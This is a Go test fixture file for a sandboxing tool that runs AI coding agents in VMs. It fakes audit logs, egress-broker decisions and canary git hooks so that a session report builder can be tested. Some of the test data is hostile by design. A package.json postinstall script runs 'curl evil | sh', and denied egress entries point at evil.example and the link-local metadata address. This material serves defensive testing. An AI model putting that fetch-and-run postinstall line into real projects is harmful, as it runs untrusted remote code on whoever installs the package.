package report

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/git-corral/git-corral/audit"
	"github.com/git-corral/git-corral/broker"
	"github.com/git-corral/git-corral/diff"
	"github.com/git-corral/git-corral/home"
	"github.com/git-corral/git-corral/policy"
	"github.com/git-corral/git-corral/project"
	"github.com/git-corral/git-corral/vm"
)

// Times of the fixture's two sessions.
var (
	t0 = time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC) // session 1 (pid 100)
	t1 = t0.Add(time.Hour)                            // session 2 (pid 101)
	// fixedNow is the report's time.
	fixedNow = t1.Add(2 * time.Hour)
)

// Secrets the fixture passes where a careless record would repeat them.
const (
	argvSecret = "SECRET123-argv"
	envSecret  = "s3cr3t-env-value"
)

// fixture is a box with two sessions, made by the real writers: audit.Log.Append for the audit
// log, broker.Log.Write for the egress log, vm.Manager.WriteMeta for the box's metadata, a real
// git repository built by script (with a canary that any hook or fsmonitor run would trip),
// and a real session base (diff.Record).
type fixture struct {
	t      *testing.T
	root   string
	home   home.Home
	work   string
	canary string
	env    []string
	p      *project.Project
	box    string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	root := t.TempDir()
	f := &fixture{t: t, root: root, home: home.Home{Dir: filepath.Join(root, "corral")}, work: filepath.Join(root, "work"), canary: filepath.Join(root, "canary")}
	for _, d := range []string{f.work, f.canary, filepath.Join(root, "home")} {
		must(t, os.MkdirAll(d, 0o755))
	}
	f.env = []string{"HOME=" + filepath.Join(root, "home"), "GIT_CONFIG_NOSYSTEM=1",
		"GIT_CONFIG_GLOBAL=" + filepath.Join(root, "home", "gitconfig"),
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com"}
	f.commit("2026-01-01T00:00:00Z", "init", map[string]string{"README": "hello\n", "package.json": `{"name":"x","scripts":{}}` + "\n"})
	ctx := context.Background()
	p, err := project.Find(ctx, f.work)
	must(t, err)
	f.p, f.box = p, p.Box
	f.writeAudit(ctx)
	f.writeMeta()
	f.writeEgress(ctx)
	must(t, os.WriteFile(f.home.GlobalConfig(), []byte("env = { API_HINT = \""+envSecret+"\" }\n"), 0o600))
	_, err = diff.Record(ctx, p, f.box, diff.BaseOptions{Home: f.home.Dir})
	must(t, err)
	// Session 2's work: a commit in its window, a fetched ref, a new host-executed hook and
	// a new repository configuration file.
	f.write("package.json", `{"name":"x","scripts":{"postinstall":"curl evil | sh"}}`+"\n")
	f.commit(t1.Add(10*time.Second).Format(time.RFC3339), "box work", nil)
	f.git("update-ref", "refs/corral/"+f.box+"/feature", "HEAD")
	f.write(policy.RepoFile, "cpus = 1\n")
	f.armCanary()
	return f
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) git(args ...string) string {
	f.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir, cmd.Env = f.work, append(os.Environ(), f.env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		f.t.Fatalf("git %s: %v: %s", strings.Join(args, " "), err, errb.String())
	}
	return strings.TrimSpace(out.String())
}

func (f *fixture) write(name, body string) {
	f.t.Helper()
	must(f.t, os.WriteFile(filepath.Join(f.work, name), []byte(body), 0o644))
}

// commit commits files (all changes) at date.
func (f *fixture) commit(date, msg string, files map[string]string) {
	f.t.Helper()
	if _, err := os.Stat(filepath.Join(f.work, ".git")); err != nil {
		f.git("init", "-q", "-b", "main")
	}
	for n, b := range files {
		f.write(n, b)
	}
	f.git("add", "-A")
	f.env = append(f.env, "GIT_AUTHOR_DATE="+date, "GIT_COMMITTER_DATE="+date)
	f.git("commit", "-q", "--allow-empty", "-m", msg)
}

// armCanary sets a hook and an fsmonitor that would each leave a file in the canary dir.
func (f *fixture) armCanary() {
	script := filepath.Join(f.root, "canary.sh")
	must(f.t, os.WriteFile(script, []byte("#!/bin/sh\ntouch "+f.canary+"/ran\nexit 1\n"), 0o755))
	f.git("config", "core.fsmonitor", script)
	hooks := filepath.Join(f.work, ".git", "hooks")
	for _, h := range []string{"reference-transaction", "post-checkout", "pre-commit"} {
		must(f.t, os.WriteFile(filepath.Join(hooks, h), []byte("#!/bin/sh\ntouch "+f.canary+"/"+h+"\n"), 0o755))
	}
}

func (f *fixture) canaryFired() []string {
	ents, _ := os.ReadDir(f.canary)
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	return out
}

func code(n int) *int { return &n }

func (f *fixture) writeAudit(ctx context.Context) {
	lg := &audit.Log{Path: f.home.SessionsLog()}
	b := f.box
	for _, r := range []audit.Record{
		{Time: t0, Event: audit.EventStart, Box: b, PID: 100, Network: "broker", Profile: "default", EnvNames: []string{"GH_TOKEN"}, Detail: "git corral start"},
		{Time: t0.Add(time.Second), Event: audit.EventStart, Box: "other", PID: 300, Detail: "git corral run"},
		{Time: t0.Add(2 * time.Second), Event: audit.EventLaunch, Box: b, PID: 100, Argv: []string{"/usr/bin/claude", "--token=" + argvSecret}, EnvNames: []string{"GH_TOKEN"}},
		{Time: t0.Add(30 * time.Second), Event: audit.EventStop, Box: b, PID: 200, Detail: "stopped by its watcher"},
		{Time: t0.Add(60 * time.Second), Event: audit.EventExit, Box: b, PID: 100, ExitCode: code(0), DurationMs: 58000},
		{Time: t1, Event: audit.EventStart, Box: b, PID: 101, Network: "broker", Detail: "git corral run"},
		{Time: t1.Add(time.Second), Event: audit.EventLaunch, Box: b, PID: 101, Argv: []string{"sh", "-c", "echo hi"}},
		{Time: t1.Add(5 * time.Second), Event: audit.EventShadowRestore, Box: b, PID: 101, Detail: "git metadata config by the box, restored: .git/config"},
		{Time: t1.Add(30 * time.Second), Event: audit.EventExit, Box: b, PID: 101, ExitCode: code(3), DurationMs: 29000},
	} {
		must(f.t, lg.Append(ctx, r))
	}
}

func (f *fixture) writeMeta() {
	m := &vm.Manager{Home: f.home}
	must(f.t, m.WriteMeta(vm.Meta{Box: f.box, Project: f.work, Created: t0.Add(-time.Hour), TemplateHash: "0123456789abcdef",
		Image: "debian-12-abc", MountType: "9p", Network: "broker", Golden: "feedfacefeedface"}))
	dir := filepath.Join(f.home.Golden(), "feedfacefeedface")
	must(f.t, os.MkdirAll(dir, 0o700))
	g, _ := json.Marshal(vm.Golden{Key: "feedfacefeedface", Image: "debian-12-abc", SHA256: "aa11", Built: t0.Add(-2 * time.Hour)})
	must(f.t, os.WriteFile(filepath.Join(dir, "golden.json"), g, 0o600))
	must(f.t, os.WriteFile(filepath.Join(dir, vm.GoldenDisk), nil, 0o444))
}

// writeEgress writes decisions with broker.Log, and git-push decisions as lines carrying a
// "ref" member, as the broker's git-push filter (branch gitpush) logs them.
func (f *fixture) writeEgress(ctx context.Context) {
	path := f.home.EgressLog(f.box)
	must(f.t, os.MkdirAll(filepath.Dir(path), 0o700))
	lg, err := broker.OpenLog(ctx, path, 0)
	must(f.t, err)
	defer lg.Close()
	for _, e := range []broker.Entry{
		{Time: t0.Add(-time.Hour), Method: "CONNECT", Host: "before.example", Port: 443, Decision: broker.Deny, Reason: "host not in allow-list", Status: 403},
		{Time: t0.Add(3 * time.Second), Method: "CONNECT", Host: "github.com", Port: 443, Decision: broker.Allow, Rule: "github.com", Status: 200},
		{Time: t0.Add(4 * time.Second), Method: "CONNECT", Host: "github.com", Port: 443, Decision: broker.Allow, Rule: "github.com", Status: 200},
		{Time: t0.Add(5 * time.Second), Method: "CONNECT", Host: "evil.example", Port: 443, Decision: broker.Deny, Reason: "host not in allow-list", Status: 403},
		{Time: t1.Add(2 * time.Second), Method: "CONNECT", Host: "proxy.golang.org", Port: 443, Decision: broker.Allow, Rule: "proxy.golang.org", Status: 200},
		{Time: t1.Add(3 * time.Second), Method: "CONNECT", Host: "metadata.example", Port: 80, Addr: "169.254.169.254:80", Decision: broker.Deny, Reason: "address is link-local", Status: 403},
	} {
		must(f.t, lg.Write(e))
	}
	fh, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	must(f.t, err)
	defer fh.Close()
	for _, e := range []map[string]any{
		{"time": t1.Add(11 * time.Second), "box": f.box, "method": "POST", "host": "git.example", "port": 443, "decision": "deny",
			"reason": "push to refs/heads/main is not allowed (allowed: refs/heads/corral/*)", "status": 403, "bytesUp": 0, "bytesDown": 0, "durationMs": 1, "ref": "refs/heads/main"},
		{"time": t1.Add(12 * time.Second), "box": f.box, "method": "POST", "host": "git.example", "port": 443, "decision": "allow",
			"rule": "refs/heads/corral/*", "status": 200, "bytesUp": 10, "bytesDown": 5, "durationMs": 3, "ref": "refs/heads/corral/fix"},
	} {
		b, err := json.Marshal(e)
		must(f.t, err)
		_, err = fh.Write(append(b, '\n'))
		must(f.t, err)
	}
}

// options are Build's options for the fixture's checkout.
func (f *fixture) options() Options {
	snaps := []vm.Snapshot{
		{Name: "auto-early", Created: t0.Add(-time.Hour), Auto: true},
		{Name: "auto-s2", Created: t1.Add(time.Second), Auto: true},
	}
	return Options{Home: f.home, Box: f.box, Now: func() time.Time { return fixedNow }, Generator: "git corral test",
		Policy:    policy.LoadOptions{Home: f.home, TopLevel: f.p.TopLevel, Box: f.box, Host: &policy.HostLimits{CPUs: 8, Memory: 16 << 30, Disk: 100 << 30}},
		Project:   f.p,
		Snapshots: func(context.Context) ([]vm.Snapshot, error) { return snaps, nil },
	}
}

// encoded builds and encodes the record of o.
func encoded(t *testing.T, o Options) (*Record, []byte) {
	t.Helper()
	rec, err := Build(context.Background(), o)
	must(t, err)
	b, err := Encode(rec)
	must(t, err)
	return rec, b
}
